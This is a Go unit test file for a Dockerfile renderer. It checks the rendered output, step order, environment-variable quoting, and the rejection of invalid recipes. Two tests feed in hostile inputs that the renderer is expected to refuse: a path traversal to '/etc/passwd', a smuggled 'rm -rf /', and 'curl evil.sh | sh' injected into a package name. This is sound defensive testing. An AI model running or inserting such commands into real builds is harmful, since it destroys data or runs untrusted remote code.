package recipe

import (
	"strings"
	"testing"

	"github.com/melih/lighthouse-launch/internal/core/domain"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const wantDefault = `FROM python:3.11-slim

ENV PYTHONDONTWRITEBYTECODE=1 \
    PYTHONUNBUFFERED=1

WORKDIR /app

RUN apt-get update \
    && apt-get install -y --no-install-recommends build-essential \
    && rm -rf /var/lib/apt/lists/*

COPY requirements.txt ./requirements.txt
RUN pip install --no-cache-dir -r ./requirements.txt

COPY . .

EXPOSE 8000

CMD ["sh", "-c", "exec uvicorn main:app --host 0.0.0.0 --port ${PORT:-8000}"]
`

func TestRenderDefault(t *testing.T) {
	out, err := RenderString(domain.DefaultRecipe())
	require.NoError(t, err)
	assert.Equal(t, wantDefault, out)
}

func TestRenderStepOrder(t *testing.T) {
	out, err := RenderString(domain.DefaultRecipe())
	require.NoError(t, err)

	toolchain := strings.Index(out, "apt-get install")
	manifest := strings.Index(out, "COPY requirements.txt")
	install := strings.Index(out, "pip install --no-cache-dir")
	source := strings.Index(out, "COPY . .")
	require.True(t, toolchain >= 0 && manifest >= 0 && install >= 0 && source >= 0)
	assert.Less(t, toolchain, manifest)
	assert.Less(t, manifest, install)
	assert.Less(t, install, source)
}

func TestRenderCustomRecipe(t *testing.T) {
	r := domain.DefaultRecipe()
	r.BaseImage = "python:3.12.3-slim-bookworm"
	r.WorkDir = "/srv/app"
	r.SystemPackages = nil
	r.Manifest = "deploy/requirements.txt"
	r.Env = []domain.EnvVar{{Name: "CHROMA_PATH", Value: "db"}}
	r.DefaultPort = 9000
	r.ExposedPort = 9000
	r.App = "service.api:application"

	out, err := RenderString(r)
	require.NoError(t, err)
	assert.NotContains(t, out, "apt-get")
	assert.Contains(t, out, `ENV CHROMA_PATH="db"`)
	assert.Contains(t, out, "WORKDIR /srv/app")
	assert.Contains(t, out, "COPY deploy/requirements.txt ./requirements.txt")
	assert.Contains(t, out, "EXPOSE 9000")
	assert.Contains(t, out, "exec uvicorn service.api:application --host 0.0.0.0 --port ${PORT:-9000}")
}

func TestRenderEnvQuoting(t *testing.T) {
	r := domain.DefaultRecipe()
	r.Env = []domain.EnvVar{
		{Name: "GREETING", Value: `say "hi"`},
		{Name: "HOME_REF", Value: "$HOME"},
		{Name: "WIN_PATH", Value: `C:\data\`},
	}

	out, err := RenderString(r)
	require.NoError(t, err)
	assert.Contains(t, out, `ENV GREETING="say \"hi\""`+"\n")
	assert.Contains(t, out, `ENV HOME_REF="\$HOME"`+"\n")
	assert.Contains(t, out, `ENV WIN_PATH="C:\\data\\"`+"\n")
}

func TestRenderManifestFiles(t *testing.T) {
	files := []domain.ContextPath{
		{Src: "constraints.txt", Dest: "./constraints.txt"},
		{Src: "vendor/mylib", Dest: "./vendor/mylib"},
	}

	out, err := RenderString(domain.DefaultRecipe(), files...)
	require.NoError(t, err)
	assert.Contains(t, out, `COPY requirements.txt ./requirements.txt
COPY constraints.txt ./constraints.txt
COPY vendor/mylib ./vendor/mylib
RUN pip install --no-cache-dir -r ./requirements.txt
`)
	assert.Less(t, strings.Index(out, "COPY vendor/mylib"), strings.Index(out, "COPY . ."))
}

func TestRenderRejectsEscapingFiles(t *testing.T) {
	for _, f := range []domain.ContextPath{
		{Src: "../secrets.txt", Dest: "./secrets.txt"},
		{Src: "/etc/passwd", Dest: "./passwd"},
		{Src: "pins.txt", Dest: "./../pins.txt"},
		{Src: "pins.txt; rm -rf /", Dest: "./pins.txt"},
	} {
		_, err := RenderString(domain.DefaultRecipe(), f)
		assert.ErrorIs(t, err, domain.ErrInvalidRecipe, f.Src)
	}
}

func TestRenderWithLauncher(t *testing.T) {
	r := domain.DefaultRecipe()
	r.Launcher = "ghcr.io/melih/lighthouse:1.4"

	out, err := RenderString(r)
	require.NoError(t, err)
	assert.Contains(t, out, `RUN pip install --no-cache-dir -r ./requirements.txt

COPY --from=ghcr.io/melih/lighthouse:1.4 /usr/local/bin/lighthouse /usr/local/bin/lighthouse

COPY . .
`)
	assert.Contains(t, out, `CMD ["lighthouse", "launch", "--app", "main:app", "--server", "uvicorn", "--default-port", "8000"]`)
	assert.NotContains(t, out, "sh\", \"-c")
}

func TestRenderRejectsInvalidRecipe(t *testing.T) {
	r := domain.DefaultRecipe()
	r.SystemPackages = []string{"build-essential; curl evil.sh | sh"}
	_, err := RenderString(r)
	assert.ErrorIs(t, err, domain.ErrInvalidRecipe)
}
